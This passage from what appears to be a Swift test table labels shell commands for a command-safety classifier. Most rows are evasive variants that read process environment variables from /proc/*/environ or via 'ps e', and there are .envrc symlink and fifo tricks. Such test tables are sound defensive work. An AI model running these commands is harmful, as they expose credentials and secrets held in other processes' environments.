        irreversible | ln -s ./x ./.envrc
        irreversible | touch ./.x/y
        irreversible | mkfifo .envrc
        irreversible | cat /proc/+([0-9])/environ
        irreversible | cat /proc/{1,2}/environ
        irreversible | cat /pro[c]/1/environ
        irreversible | cat /proc/1/./environ
        irreversible | cat /proc/*/*
        irreversible | head /proc/?/en*
        irreversible | tail -n +1 /proc/self/../*/environ
        irreversible | base64 < "/proc/$x/environ"
        irreversible | while read -d '' x; do echo $x; done < /proc/1/environ
        irreversible | cd /proc/1; cat ./environ
        irreversible | pushd /proc/1; cat environ
        irreversible | cd /; cat proc/1/environ
        irreversible | cat ../proc/1/environ
        irreversible | od -c /proc/1/environ
        irreversible | tee < /proc/1/environ
        irreversible | paste /proc/1/environ
        irreversible | mapfile -d '' a < /proc/1/environ
        irreversible | fgrep -R x /proc/1
        irreversible | grep --recursive x /proc
        irreversible | grep --directories=recurse x /proc/1
        irreversible | rg x /proc
        irreversible | fd . /proc -X cat
        irreversible | ps -ef e
        irreversible | ps xe
        irreversible | ps aux e
        irreversible | ps -Ao environ
        irreversible | ps --format environ
        irreversible | grep -d recurse x /proc/1
        """#)

    /// What asks another machine while it looks.
    static let asking = rows(
        #"""
        reads leaves | who --lookup
        reads leaves | who -a --look
        reads leaves | last -d
        reads leaves | last -ad -f wtmp
        reads leaves | last --dns
        reads leaves | ss -r
        reversible leaves | go version
        reversible leaves | go doc fmt
        reversible leaves | go env GOPATH
        irreversible leaves | lspci -Q
        irreversible leaves | lspci -nq
        irreversible leaves | systemctl status -H host
        irreversible leaves | kubectl get pods --kubeconfig=x
        """#)
}
